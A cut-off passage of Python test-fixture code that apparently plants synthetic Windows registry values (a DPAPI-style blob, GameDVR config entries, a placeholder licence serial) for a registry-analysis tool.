        bytes.fromhex("01000000d08c9ddf0115d1118c7a00c04fc297eb") + RB(400),
    ),
)
bn(
    "gamedvr",
    U,
    Plant("System\\GameConfigStore\\Children\\aa", "ExeParentDirectory", "Game"),
    Plant("System\\GameConfigStore\\Children\\aa", "Type", number(1), DWORD),
    Plant("System\\GameConfigStore\\Children\\aa", "Parent", RB(64)),
)
bn(
    "serial keys",
    S,
    Plant("Vendor\\Lic", "serial", "AB12C-D34EF-56GHI-J78KL-90MNO"),
    Plant("Vendor\\Lic", "hash", RB(64).hex()),
)
